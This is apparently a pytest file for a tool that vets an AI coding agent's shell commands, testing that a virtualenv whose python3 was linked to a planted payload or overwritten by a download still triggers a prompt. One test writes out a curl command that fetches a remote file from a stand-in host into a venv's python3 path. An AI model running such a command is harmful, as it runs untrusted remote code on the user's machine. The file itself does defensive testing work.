"""A python/pip that the line's own venv creation made is no program dropped in /tmp — unless what is
on disk there already says otherwise: `venv` leaves an existing link in place, so a bin/python3 an
earlier call linked to a payload still asks (adr/engine/venvs.py)."""
from __future__ import annotations

import os

import pytest

from adr.actions import Decision


@pytest.mark.parametrize("target,expect", [
    (None, Decision.ALLOW),  # a venv the line makes from nothing
    ("system", Decision.ALLOW),  # an existing venv whose python3 links to the system interpreter
    ("payload", Decision.ASK),  # an existing folder whose bin/python3 an earlier call linked to a payload
])
def test_existing_venv_links_are_looked_at(judge_at, tmp_path, target, expect):
    v = tmp_path / "v"
    if target == "system" and not os.path.exists("/usr/bin/python3"):
        pytest.skip("no /usr/bin/python3")
    if target is not None:
        (v / "bin").mkdir(parents=True)
        real = "/usr/bin/python3" if target == "system" else str(tmp_path / "payload")
        if target == "payload":
            (tmp_path / "payload").write_text("#!/bin/sh\n")
        os.symlink(os.path.realpath(real), v / "bin" / "python3")
    got = judge_at(tmp_path, f"python3 -m venv {v} && {v}/bin/python3 -m pip install -r requirements.txt")
    assert got.decision is expect, [f.rule_id for f in got.findings]


def test_a_bin_file_an_earlier_call_downloaded_still_asks(memory_judge):
    from adr.actions import Action, ActionKind, Context

    ctx = Context(host="claude-code", session="venv", cwd="/home/dev/project", home="/home/dev", tool="Bash")
    first = Action(ActionKind.EXEC, ctx, command="curl -so /tmp/v/bin/python3 https://x.example/b")
    memory_judge.crosscall.memory.remember(first, memory_judge.decide(first))
    then = memory_judge.decide(Action(ActionKind.EXEC, ctx, command="python3 -m venv /tmp/v && /tmp/v/bin/python3 -m pytest"))
    assert then.decision is not Decision.ALLOW
